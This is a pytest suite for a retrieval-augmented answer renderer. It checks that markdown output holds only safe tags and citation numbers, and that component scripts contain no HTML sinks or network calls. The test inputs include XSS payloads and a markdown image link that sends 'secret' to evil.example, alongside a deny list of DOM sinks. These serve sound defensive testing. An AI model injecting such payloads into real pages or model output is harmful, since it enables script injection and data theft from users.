"""Whatever an answer says, its tree holds texts, known tags and citation numbers only."""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path

import pytest

from app.components.answer_text import blocks, remark
from app.components.markdown_tree import cited, tree
from app.components.quoted_text import Node
from app.words import speaking
from rag.types import Answer, Sentence, Trace
from rag.verification.nouns import Check, Derived, Finding

COMPONENTS = Path(__file__).parents[2] / "app" / "components"
DRAWN = re.search(r"TAGS = new Set\(\[(.*?)\]", (COMPONENTS / "answer.js").read_text(encoding="utf-8"), re.DOTALL)
TAGS = set(re.findall(r"\w+", DRAWN[1] if DRAWN else ""))

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![leak](https://evil.example/?q=secret)",
    "![leak][1]\n\n[1]: https://evil.example/",
    "[click](javascript:alert(1))",
    "<https://evil.example>",
    "https://evil.example and www.evil.example",
    "<iframe src='//evil.example'></iframe>\n\n<style>*{display:none}</style>",
    "$\\href{https://evil.example}{x}$",
    "```mermaid\ngraph TD; A-->B; click A href 'https://evil.example'\n```",
    "|a|\n|-|\n|<b onmouseover=alert(1)>x</b>|",
    ":material/home: :red[x] :rainbow[y]",
    "> " * 200 + "deep",
    "&lt;script&gt; &#60;script&#62;",
]


def nodes(found: list[Node]) -> Iterator[Node]:
    for node in found:
        yield node
        if isinstance(node, dict) and "children" in node:
            yield from nodes(node["children"])


def words(found: list[Node]) -> str:
    return "".join(node for node in nodes(found) if isinstance(node, str))


@pytest.mark.parametrize("markdown", HOSTILE, ids=range(len(HOSTILE)))
def test_nothing_but_texts_tags_and_numbers(markdown: str):
    for node in nodes(tree(markdown)):
        if isinstance(node, dict):
            assert set(node) in ({"tag", "children"}, {"cite"})
            assert node.get("tag", "p") in TAGS
            assert isinstance(node.get("cite", 1), int)


def test_markers_become_numbers_but_not_in_code():
    found = tree("It opens at six [1][12]. See `x[3]`.\n\n- and closes [2]\n\n|a|\n|-|\n|b [4]|")
    assert [node["cite"] for node in nodes(found) if isinstance(node, dict) and "cite" in node] == [1, 12, 2, 4]
    assert "x[3]" in words(found)


def test_the_words_that_answer_are_a_node_of_their_own():
    sentences = (Sentence("It opens at <b>six</b>.", (1,), (12, 22)), Sentence("It closes.", (2,)))
    answer = Answer("When?", "", sentences, (), (), Trace(()))
    marked = {"tag": "mark", "children": ["<b>six</b>"]}
    assert blocks(answer) == [
        {"tag": "p", "children": ["It opens at ", marked, ".", {"cite": 1}]},
        {"tag": "p", "children": ["It closes.", {"cite": 2}]},
    ]
    assert "mark" in TAGS


def test_html_is_shown_as_text():
    assert words(tree("a <b>bold</b> claim")) == "a <b>bold</b> claim"


def test_a_marker_of_nothing_stays_text():
    assert cited("[x] [12345] []") == ["[x] [12345] []"]


HARMLESS = (
    "http://www.w3.org/2000/svg",
    "http://www.w3.org/1998/Math/MathML",
    "picture.src = `data:image/jpeg;base64,",
)
"""The names of two kinds of elements, which are never asked for, and a picture whose bytes the page brings along."""


@pytest.mark.parametrize("path", sorted(COMPONENTS.glob("*.js")), ids=lambda path: path.name)
def test_scripts_write_no_html(path: Path):
    script = path.read_text(encoding="utf-8")
    for known in HARMLESS:
        script = script.replace(known, "")
    for word in (
        "innerHTML",
        "outerHTML",
        "insertAdjacentHTML",
        "document.write",
        "eval(",
        "href",
        "src",
        "fetch",
        "http",
    ):
        assert word not in script


@pytest.mark.parametrize("path", sorted(COMPONENTS.glob("*.css")), ids=lambda path: path.name)
def test_styles_load_nothing(path: Path):
    style = path.read_text(encoding="utf-8")
    assert "url(" not in style
    assert "@import" not in style


def test_a_number_that_was_calculated_is_told_with_its_calculation():
    check = Check("supported", 0.9, derived=(Derived("8,500", "48,200 − 39,700"), Derived("5,000")))
    assert remark(check) == {"word": "calculated", "text": "“8,500” is calculated: 48,200 − 39,700."}
    assert remark(Check("supported", 0.9, derived=(Derived("5,000"),))) == {}


@pytest.mark.parametrize(
    "finding",
    [
        Finding("topic", "x"),
        Finding("negation", "not"),
        Finding("negation", "", "never"),
        Finding("role", "buyer", "seller"),
        Finding("number", "14"),
        Finding("number", "14", "41"),
    ],
)
def test_a_finding_is_told_in_english_as_everywhere_else_and_in_other_languages_otherwise(finding: Finding):
    told = f"{str(finding)[0].upper()}{str(finding)[1:]}."
    assert remark(Check("unsupported", 0.1, (finding,))) == {"word": "not in the source", "text": told}
    with speaking("de"):
        said = remark(Check("unsupported", 0.1, (finding,)))
    assert said["word"] == "nicht in der Quelle"
    assert said["text"] != told
    assert all(words in said["text"] for words in (finding.said, finding.instead) if finding.kind != "topic" and words)


def test_only_a_source_that_was_found_is_told_as_something_good():
    assert remark(Check("supported", 0.9, is_found=True))["kind"] == "good"
    against = Check("supported", 0.9, against=((2, Finding("number", "14", "41")),))
    assert remark(against) == {
        "word": "sources differ",
        "text": "Another document says otherwise: [2] says “41” instead of “14”.",
    }
